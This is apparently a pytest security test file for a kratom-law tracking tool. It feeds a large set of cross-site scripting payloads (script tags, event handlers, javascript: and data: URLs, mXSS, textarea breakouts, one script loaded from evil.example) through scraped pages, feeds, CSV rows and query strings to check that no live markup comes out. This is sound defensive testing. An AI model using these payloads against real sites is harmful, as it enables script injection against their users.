"""Hostile content: scraped pages, feed items and baseline rows carrying scripts, event handlers,
javascript:/data: URLs, SVG with script, CSS expressions, encoded and nested payloads and a </textarea>
breakout. What a page shows as text arrives as text; what it carries as markup never arrives at all; and
nothing reaches a feed, an API answer, the dashboard or a notification as live markup.

Two kinds of marker: LIVE markers sit where only markup can be (script bodies, attribute values, styles),
so they must never appear anywhere downstream; TEXT markers are visible text of the page (escaped in
its source), so they must arrive, as text."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from conftest import (
    HAVE_CHROMIUM,
    NO_CHROMIUM,
    headless_chromium,
    html_page,
    run_cli,
    running_app,
    write_sources,
)
from kratom_tracker.store import Store

# Live markup: each payload hides a marker where a browser would run or load it, never as text.
LIVE_PAYLOADS = [
    "<script>window.__pwned='LIVE-script-tag'</script>",
    "<SCRIPT SRC=//evil.example/LIVE-script-src.js></SCRIPT>",
    "<img src=x onerror=\"window.__pwned='LIVE-onerror'\">",
    "<body onload=\"window.__pwned='LIVE-onload'\">",
    "<a href=\"javascript:window.__pwned='LIVE-js-href'\">kratom rule text</a>",
    "<a href=\"  JaVaScRiPt:window.__pwned='LIVE-js-mixed-case'\">7-OH</a>",
    "<a href=\"java&#x09;script:window.__pwned='LIVE-js-tab-entity'\">link</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5MSVZFLWRhdGEtdXJsPC9zY3JpcHQ+\" title='LIVE-data-url'>data</a>",
    "<iframe src=\"data:text/html,<script>window.__pwned='LIVE-iframe-data'</script>\"></iframe>",
    "<iframe srcdoc=\"<script>window.__pwned='LIVE-srcdoc'</script>\"></iframe>",
    "<svg onload=\"window.__pwned='LIVE-svg-onload'\"><script>window.__pwned='LIVE-svg-script'</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='LIVE-mxss'\"></style></mglyph>"
    "</table></mtext></math>",
    "<div style=\"width: expression(window.__pwned='LIVE-css-expression')\">styled</div>",
    "<style>body{background:url(\"javascript:window.__pwned='LIVE-css-url'\")}</style>",
    # a browser reads "<scr<script>" as one odd tag, so the rest is visible text: a NESTED marker, not LIVE
    "<scr<script>ipt>window.__pwned='NESTED-tag'</scr</script>ipt>",
    "<object data=\"javascript:window.__pwned='LIVE-object'\"></object>",
    "<embed src=\"data:image/svg+xml,<svg onload=window.__pwned='LIVE-embed'>\">",
    "<form action=\"javascript:window.__pwned='LIVE-form'\"><button>go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__pwned='LIVE-meta-refresh'\">",
    "<base href=\"javascript:window.__pwned='LIVE-base'//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='LIVE-noscript'>\"></p></noscript>",
    "<template><img src=x onerror=\"window.__pwned='LIVE-template'\"></template>",
    "<!-- --><script>window.__pwned='LIVE-after-comment'</script><!-- -->",
    "<details open ontoggle=\"window.__pwned='LIVE-ontoggle'\">details</details>",
]
# Text that looks like markup: the page shows these characters, so they are content and must survive as text.
TEXT_PAYLOADS = [
    "&lt;script&gt;window.__pwned='TEXT-escaped-script'&lt;/script&gt; rule one",
    "&lt;/textarea&gt;&lt;script&gt;window.__pwned='TEXT-textarea-breakout'&lt;/script&gt; rule two",
    "&lt;img src=x onerror=&quot;window.__pwned='TEXT-escaped-onerror'&quot;&gt; rule three",
    "&amp;lt;script&amp;gt;TEXT-double-encoded&amp;lt;/script&amp;gt; rule four",
    "&lt;svg&gt;&lt;script&gt;TEXT-svg&lt;/script&gt;&lt;/svg&gt; javascript:TEXT-js-in-text rule five",
    "\u003cscript\u003eTEXT-unicode-escaped\u003c/script\u003e".replace("<", "&lt;").replace(">", "&gt;"),
]
LIVE_MARKERS = [p.split("LIVE-")[1].split("'")[0].split(".")[0].split("\"")[0] for p in LIVE_PAYLOADS
                if "LIVE-" in p]
TEXT_MARKERS = ["TEXT-escaped-script", "TEXT-textarea-breakout", "TEXT-escaped-onerror", "TEXT-double-encoded",
                "TEXT-svg", "TEXT-unicode-escaped"]

BEFORE_PAGE = html_page("<h1>Sarasota County kratom ordinance</h1><p>Sale to persons under 21 is prohibited.</p>")
AFTER_PAGE = html_page("<h1>Sarasota County kratom ordinance</h1><p>Sale to persons under 21 is prohibited.</p>"
                       + "".join(f"<p>{p} kratom</p>" for p in LIVE_PAYLOADS)
                       + "".join(f"<p>{p}</p>" for p in TEXT_PAYLOADS))


def _rss(extra_items: str = "") -> str:
    return ("<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>News</title>"
            "<link>https://example.org/</link><description>d</description>" + extra_items +
            "<item><title>Old kratom item</title><link>https://example.org/1</link><guid>1</guid>"
            "<description>old</description></item></channel></rss>")


HOSTILE_ITEMS = "".join(
    f"<item><title>Kratom notice {n} &lt;script&gt;window.__pwned='TEXT-feed-title-{n}'&lt;/script&gt;</title>"
    f"<link>javascript:window.__pwned='LIVE-feed-link-{n}'</link><guid>h{n}</guid>"
    f"<description><![CDATA[Kratom hearing {n} {payload}]]></description></item>"
    for n, payload in enumerate(LIVE_PAYLOADS[:8]))
BASELINE_HEAD = "jurisdiction,substance,status,detail,effective_date,summary,source_url,source_type,last_verified\n"
BASELINE_BEFORE = BASELINE_HEAD + "US-FL,leaf,legal,,,Legal statewide,https://www.flsenate.gov/x,primary,2026-01-01\n"
BASELINE_AFTER = BASELINE_BEFORE + (
    "US-FL,7-OH,banned,,2025-08-15,\"Scheduled <script>window.__pwned='LIVE-baseline-quote'</script> "
    "</textarea>\",https://www.flrules.org/x?a=\"><script>URL-baseline-quote</script>,primary,2026-01-01\n"
    "US-FL,all,banned,,,A row whose evidence is a script,javascript:window.__pwned='LIVE-baseline-url',"
    "primary,2026-01-01\n")  # refused by the extractor: evidence must be an http(s) URL


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """Two collects against a site (the `site` fixture is function-scoped, so a small one of our own)."""
    from conftest import Site

    site = Site()
    site.set("/robots.txt", "User-agent: *\nAllow: /\n", content_type="text/plain")
    tmp_path = tmp_path_factory.mktemp("hostile")
    baseline = tmp_path / "baseline.csv"
    baseline.write_text(BASELINE_BEFORE, encoding="utf-8")
    site.set("/page", BEFORE_PAGE)
    site.set("/feed", _rss(), content_type="application/rss+xml")
    sources = write_sources(tmp_path, f"""notify:
  - url: json://127.0.0.1:9/hook
    name: hook
publish:
  base_url: http://127.0.0.1:8080
sources:
  - id: hostile-page
    name: Hostile page <script>window.__pwned='LIVE-source-name'</script>
    type: page
    url: {site.url('/page')}
    jurisdiction: US-FL/sarasota-county
    select: main
  - id: hostile-feed
    type: feed
    url: {site.url('/feed')}
    jurisdiction: US-FL
    match: "(?i)kratom"
  - id: hostile-baseline
    type: baseline
    path: baseline.csv
    jurisdiction: US
""")
    db = tmp_path / "tracker.db"
    try:
        assert run_cli("collect", "--sources", str(sources), "--db", str(db), "--quiet") == 0
        site.set("/page", AFTER_PAGE)
        site.set("/feed", _rss(HOSTILE_ITEMS), content_type="application/rss+xml")
        baseline.write_text(BASELINE_AFTER, encoding="utf-8")
        assert run_cli("collect", "--sources", str(sources), "--db", str(db), "--quiet") == 0
    finally:
        site.close()
    return sources, db, tmp_path


def _live_markers_in(text: str) -> list[str]:
    return [m for m in LIVE_MARKERS + ["LIVE-feed-link", "LIVE-baseline", "LIVE-source-name"] if m in text]


def _all_markers() -> list[str]:
    return ["LIVE-" + m for m in LIVE_MARKERS]


def test_the_corpus_is_broad(hostile_db):
    assert len(LIVE_PAYLOADS) >= 20 and len(set(LIVE_MARKERS)) == len(LIVE_MARKERS) == len(LIVE_PAYLOADS) - 1


# -- store and extract level ------------------------------------------------------------------------------


def test_live_markup_never_becomes_stored_text(hostile_db, capsys):
    _, db, _ = hostile_db
    with Store(db, readonly=True) as store:
        events = [e.as_dict() for e in store.events()]
        snapshots = [row[0] for row in store.db.execute("SELECT content FROM snapshots").fetchall()]
    assert {e["source_id"] for e in events} == {"hostile-page", "hostile-feed", "hostile-baseline"}
    page_events = [e for e in events if e["source_id"] == "hostile-page"]
    assert len(page_events) == 1
    for text in [json.dumps(e) for e in page_events] + [s for s in snapshots if '"lines"' in s]:
        assert [m for m in _all_markers() if m in text] == []
    diff = page_events[0]["diff"]
    for marker in TEXT_MARKERS:
        assert marker in diff  # what the page shows as text is content, kept as text
    assert "kratom rule text" in diff and "styled" in diff  # the text inside hostile elements is kept


def test_feed_summaries_are_plain_text(hostile_db):
    _, db, _ = hostile_db
    with Store(db, readonly=True) as store:
        notices = [e for e in [e.as_dict() for e in store.events()] if e["source_id"] == "hostile-feed"]
    assert len(notices) == 8
    for event in notices:
        assert [m for m in _all_markers() if m in event["summary"] + event["diff"]] == []
        assert "<" not in event["summary"] or "TEXT-" in event["summary"]


# -- feeds ---------------------------------------------------------------------------------------------


def _feed_texts(out: Path) -> dict[str, str]:
    return {str(p.relative_to(out)): p.read_text(encoding="utf-8") for p in sorted(out.rglob("*"))
            if p.suffix in (".atom", ".rss", ".json")}


def test_no_feed_carries_live_markup(hostile_db, capsys):
    from test_publish import assert_no_live_markup, plain_fields, xml_html_fields

    sources, db, tmp_path = hostile_db
    out = tmp_path / "feeds"
    assert run_cli("publish", "--sources", str(sources), "--db", str(db), "--out", str(out)) == 0
    files = _feed_texts(out)
    assert {"all.atom", "all.rss", "all.json"} <= set(files)
    for name, text in files.items():
        path = out / name
        fragments = (xml_html_fields(path) if path.suffix != ".json" else
                     [i.get("content_html", "") for i in json.loads(text)["items"]])
        assert fragments, name
        for fragment in fragments:
            assert_no_live_markup(fragment)
            assert _live_markers_in(BeautifulSoup(fragment, "html.parser").decode()) == [] or \
                _only_as_text(fragment)
        for title in plain_fields(path):
            assert "<" not in title and ">" not in title, (name, title)
        assert "javascript:" not in _hrefs(fragments)
    atom = files["all.atom"]
    assert "TEXT-textarea-breakout" in atom  # hostile text arrives, escaped


def _hrefs(fragments: list[str]) -> str:
    return " ".join(a.get("href", "") for f in fragments for a in BeautifulSoup(f, "html.parser").find_all("a"))


def _only_as_text(fragment: str) -> bool:
    """LIVE markers may only survive inside text nodes (e.g. a baseline quote, shown as quoted text)."""
    soup = BeautifulSoup(fragment, "html.parser")
    for element in soup.find_all(True):
        if any(m in str(v) for v in element.attrs.values() for m in _all_markers()):
            return False
    return True


# -- API and dashboard -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def client(hostile_db):
    from fastapi.testclient import TestClient

    from kratom_tracker.config.loader import load
    from kratom_tracker.web.app import ServerSettings, create_app

    sources, db, tmp_path = hostile_db
    settings = ServerSettings(db=db, config=load(sources))
    with TestClient(create_app(settings), raise_server_exceptions=False) as test_client:
        yield test_client


@pytest.mark.parametrize("path", ["/api/changes", "/api/sources", "/api/changes?region=US-FL",
                                  "/api/changes?region=%3Cscript%3Ealert(1)%3C/script%3E",
                                  "/api/status/%3Csvg%20onload%3Dalert(1)%3E"])
def test_api_answers_are_json_data_never_markup(client, path):
    answer = client.get(path)
    assert answer.headers["content-type"] == "application/json", path
    assert answer.headers["x-content-type-options"] == "nosniff"
    json.loads(answer.text)


@pytest.mark.parametrize("query", [{}, {"q": "US-FL/sarasota-county"}, {"q": "US-FL"},
                                   {"q": "\"><svg onload=alert(1)>"}, {"q": "</textarea><script>alert(1)</script>"},
                                   {"q": "javascript:alert(1)"}])
def test_dashboard_has_no_live_markup(client, query):
    from test_publish import assert_no_live_markup

    page = client.get("/", params=query)
    assert page.headers["content-type"].startswith("text/html")
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert_no_live_markup(page.text, allow_document=True)
    soup = BeautifulSoup(page.text, "html.parser")
    assert soup.find_all("script") == []
    for element in soup.find_all(True):
        assert not any(m in str(v) for v in element.attrs.values() for m in _all_markers()), str(element)[:200]
    assert "javascript:" not in " ".join(a.get("href", "") for a in soup.find_all("a"))


# -- notifications ------------------------------------------------------------------------------------------


def test_notifications_carry_no_live_markup(hostile_db):
    import apprise
    from apprise.conversion import convert_between

    from kratom_tracker.config.loader import load
    from kratom_tracker.notify import SendOutcome, deliver_pending
    from test_publish import assert_no_live_markup

    sources, db, _ = hostile_db
    sent: list[tuple[str, str]] = []

    def capture(target, title, body):
        sent.append((title, body))
        return SendOutcome(True)

    with Store(db) as store:
        deliver_pending(load(sources), store, send=capture)
    assert len(sent) >= 10  # one per event (page, 8 notices, baseline)
    for title, body in sent:
        assert [m for m in _all_markers() if m in title + body] == [] or "LIVE-baseline" in title + body
        assert "<" not in title and ">" not in title
        # what an HTML-rendering notifier (e-mail) makes of the text body: escaped, never live
        assert_no_live_markup(convert_between(apprise.NotifyFormat.TEXT, apprise.NotifyFormat.HTML, body))


# -- the dashboard in a real headless browser ------------------------------------------------------------------



@pytest.mark.skipif(not HAVE_CHROMIUM, reason=NO_CHROMIUM)
def test_nothing_hostile_runs_in_a_real_browser(hostile_db):
    from kratom_tracker.config.loader import load
    from kratom_tracker.web.app import ServerSettings, create_app

    sources, db, tmp_path = hostile_db
    settings = ServerSettings(db=db, config=load(sources))
    with running_app(create_app(settings)) as base, headless_chromium() as driver:
        for query in ("", "?q=US-FL/sarasota-county", "?q=%3C/textarea%3E%3Cscript%3Ewindow.__pwned%3D1%3C/script%3E"):
            driver.get(f"{base}/{query}")
            assert driver.execute_script("return window.__pwned === undefined")
            assert driver.execute_script("return document.querySelectorAll('script, iframe, object, embed, "
                                         "svg, math, base, style:not([data-kt])').length") == 0
            handlers = driver.execute_script(
                "return [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]"
                ".filter(a => a.name.startsWith('on')).map(a => e.tagName + ' ' + a.name))")
            assert handlers == []
            links = driver.execute_script("return [...document.links].map(a => a.protocol)")
            assert set(links) <= {"http:", "https:"}
        text = driver.find_element("tag name", "body").text
        assert "TEXT-textarea-breakout" in text or "TEXT-" in text  # shown, as text
